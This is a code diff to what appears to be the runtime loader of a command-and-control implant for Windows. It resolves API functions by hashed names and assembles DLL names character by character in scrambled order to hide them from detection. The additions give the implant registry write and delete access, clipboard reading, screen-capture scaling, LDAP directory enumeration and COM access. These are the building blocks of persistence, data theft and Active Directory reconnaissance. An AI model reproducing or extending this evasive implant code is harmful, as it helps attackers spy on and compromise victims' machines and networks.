@@ -29,6 +29,7 @@ BOOL RtAdvapi32(
         Instance->Win32.CreateProcessWithLogonW      = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_CREATEPROCESSWITHLOGONW );
         Instance->Win32.RevertToSelf                 = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REVERTTOSELF );
         Instance->Win32.GetUserNameA                 = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_GETUSERNAMEA );
+        Instance->Win32.GetUserNameW                 = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_GETUSERNAMEW );
         Instance->Win32.LogonUserW                   = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_LOGONUSERW );
         Instance->Win32.LookupPrivilegeValueA        = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_LOOKUPPRIVILEGEVALUEA );
         Instance->Win32.LookupAccountSidA            = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_LOOKUPACCOUNTSIDA );
@@ -53,6 +54,14 @@ BOOL RtAdvapi32(
         Instance->Win32.ConvertSidToStringSidW       = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_CONVERTSIDTOSTRINGSIDW );
         Instance->Win32.GetSidSubAuthorityCount      = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_GETSIDSUBAUTHORITYCOUNT );
         Instance->Win32.GetSidSubAuthority           = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_GETSIDSUBAUTHORITY );
+        Instance->Win32.RegOpenKeyExW                = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGOPENKEYEXW );
+        Instance->Win32.RegCreateKeyExW              = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGCREATEKEYEXW );
+        Instance->Win32.RegCloseKey                  = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGCLOSEKEY );
+        Instance->Win32.RegQueryValueExW             = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGQUERYVALUEEXW );
+        Instance->Win32.RegEnumKeyExW                = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGENUMKEYEXW );
+        Instance->Win32.RegEnumValueW                = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGENUMVALUEW );
+        Instance->Win32.RegSetValueExW               = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGSETVALUEEXW );
+        Instance->Win32.RegDeleteValueW              = LdrFunctionAddr( Instance->Modules.Advapi32, H_FUNC_REGDELETEVALUEW );
 
         PUTS( "Loaded Advapi32 functions" )
     } else {
@@ -128,6 +137,7 @@ BOOL RtOleaut32(
         Instance->Win32.SafeArrayCreateVector = LdrFunctionAddr( Instance->Modules.Oleaut32, H_FUNC_SAFEARRAYCREATEVECTOR );
         Instance->Win32.SafeArrayDestroy      = LdrFunctionAddr( Instance->Modules.Oleaut32, H_FUNC_SAFEARRAYDESTROY );
         Instance->Win32.SysAllocString        = LdrFunctionAddr( Instance->Modules.Oleaut32, H_FUNC_SYSALLOCSTRING );
+        Instance->Win32.SysFreeString         = LdrFunctionAddr( Instance->Modules.Oleaut32, H_FUNC_SYSFREESTRING );
 
         PUTS( "Loaded Oleaut32 functions" )
     } else {
@@ -163,6 +173,12 @@ BOOL RtUser32(
         Instance->Win32.GetDC            = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_GETDC );
         Instance->Win32.ReleaseDC        = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_RELEASEDC );
 
+        Instance->Win32.OpenClipboard              = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_OPENCLIPBOARD );
+        Instance->Win32.CloseClipboard             = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_CLOSECLIPBOARD );
+        Instance->Win32.GetClipboardData           = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_GETCLIPBOARDDATA );
+        Instance->Win32.GetClipboardSequenceNumber = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_GETCLIPBOARDSEQUENCENUMBER );
+        Instance->Win32.IsClipboardFormatAvailable = LdrFunctionAddr( Instance->Modules.User32, H_FUNC_ISCLIPBOARDFORMATAVAILABLE );
+
         PUTS( "Loaded User32 functions" )
     } else {
         MemZero( ModuleName, sizeof( ModuleName ) );
@@ -294,6 +310,8 @@ BOOL RtGdi32(
         Instance->Win32.CreateDIBSection   = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_CREATEDIBSECTION );
         Instance->Win32.SelectObject       = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_SELECTOBJECT );
         Instance->Win32.BitBlt             = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_BITBLT );
+        Instance->Win32.StretchBlt         = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_STRETCHBLT );
+        Instance->Win32.SetStretchBltMode  = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_SETSTRETCHBLTMODE );
         Instance->Win32.DeleteObject       = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_DELETEOBJECT );
         Instance->Win32.DeleteDC           = LdrFunctionAddr( Instance->Modules.Gdi32, H_FUNC_DELETEDC );
 
@@ -346,6 +364,97 @@ BOOL RtNetApi32(
     return TRUE;
 }
 
+// we delay loading wldap32.dll
+BOOL RtWldap32(
+    VOID
+) {
+    CHAR ModuleName[ 12 ] = { 0 };
+
+    if ( Instance->Win32.ldap_initA )
+        return TRUE;
+
+    ModuleName[ 4  ] = HideChar('P');
+    ModuleName[ 0  ] = HideChar('W');
+    ModuleName[ 7  ] = HideChar('.');
+    ModuleName[ 2  ] = HideChar('D');
+    ModuleName[ 11 ] = HideChar(0);
+    ModuleName[ 9  ] = HideChar('L');
+    ModuleName[ 5  ] = HideChar('3');
+    ModuleName[ 1  ] = HideChar('L');
+    ModuleName[ 10 ] = HideChar('L');
+    ModuleName[ 3  ] = HideChar('A');
+    ModuleName[ 8  ] = HideChar('D');
+    ModuleName[ 6  ] = HideChar('2');
+
+    if ( ( Instance->Modules.Wldap32 = LdrModuleLoad( ModuleName ) ) ) {
+        MemZero( ModuleName, sizeof( ModuleName ) );
+        Instance->Win32.ldap_initA               = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_INITA );
+        Instance->Win32.ldap_set_option          = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_SET_OPTION );
+        Instance->Win32.ldap_bind_sA             = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_BIND_SA );
+        Instance->Win32.ldap_search_sA           = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_SEARCH_SA );
+        Instance->Win32.ldap_search_init_pageA   = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_SEARCH_INIT_PAGEA );
+        Instance->Win32.ldap_get_next_page_s     = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_GET_NEXT_PAGE_S );
+        Instance->Win32.ldap_search_abandon_page = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_SEARCH_ABANDON_PAGE );
+        Instance->Win32.ldap_count_entries       = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_COUNT_ENTRIES );
+        Instance->Win32.ldap_first_entry         = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_FIRST_ENTRY );
+        Instance->Win32.ldap_next_entry          = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_NEXT_ENTRY );
+        Instance->Win32.ldap_get_dnA             = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_GET_DNA );
+        Instance->Win32.ldap_first_attributeA    = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_FIRST_ATTRIBUTEA );
+        Instance->Win32.ldap_next_attributeA     = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_NEXT_ATTRIBUTEA );
+        Instance->Win32.ldap_get_values_lenA     = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_GET_VALUES_LENA );
+        Instance->Win32.ldap_value_free_len      = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_VALUE_FREE_LEN );
+        Instance->Win32.ldap_memfreeA            = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_MEMFREEA );
+        Instance->Win32.ber_free                 = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_BER_FREE );
+        Instance->Win32.ldap_msgfree             = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_MSGFREE );
+        Instance->Win32.ldap_unbind              = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAP_UNBIND );
+        Instance->Win32.LdapGetLastError         = LdrFunctionAddr( Instance->Modules.Wldap32, H_FUNC_LDAPGETLASTERROR );
+
+        PUTS( "Loaded Wldap32 functions" )
+    } else {
+        MemZero( ModuleName, sizeof( ModuleName ) );
+        PUTS( "Failed to load Wldap32" )
+        return FALSE;
+    }
+
+    return TRUE;
+}
+
+// we delay loading ole32.dll
+BOOL RtOle32(
+    VOID
+) {
+    CHAR ModuleName[ 10 ] = { 0 };
+
+    if ( Instance->Win32.CoCreateInstance )
+        return TRUE;
+
+    ModuleName[ 2 ] = HideChar('E');
+    ModuleName[ 9 ] = HideChar(0);
+    ModuleName[ 5 ] = HideChar('.');
+    ModuleName[ 0 ] = HideChar('O');
+    ModuleName[ 7 ] = HideChar('L');
+    ModuleName[ 3 ] = HideChar('3');
+    ModuleName[ 1 ] = HideChar('L');
+    ModuleName[ 8 ] = HideChar('L');
+    ModuleName[ 4 ] = HideChar('2');
+    ModuleName[ 6 ] = HideChar('D');
+
+    if ( ( Instance->Modules.Ole32 = LdrModuleLoad( ModuleName ) ) ) {
+        MemZero( ModuleName, sizeof( ModuleName ) );
+        Instance->Win32.CoInitializeEx   = LdrFunctionAddr( Instance->Modules.Ole32, H_FUNC_COINITIALIZEEX );
+        Instance->Win32.CoCreateInstance = LdrFunctionAddr( Instance->Modules.Ole32, H_FUNC_COCREATEINSTANCE );
+        Instance->Win32.CoUninitialize   = LdrFunctionAddr( Instance->Modules.Ole32, H_FUNC_COUNINITIALIZE );
+
+        PUTS( "Loaded Ole32 functions" )
+    } else {
+        MemZero( ModuleName, sizeof( ModuleName ) );
+        PUTS( "Failed to load Ole32" )
+        return FALSE;
+    }
+
+    return TRUE;
+}
+
 BOOL RtWs2_32(
     VOID
 ) {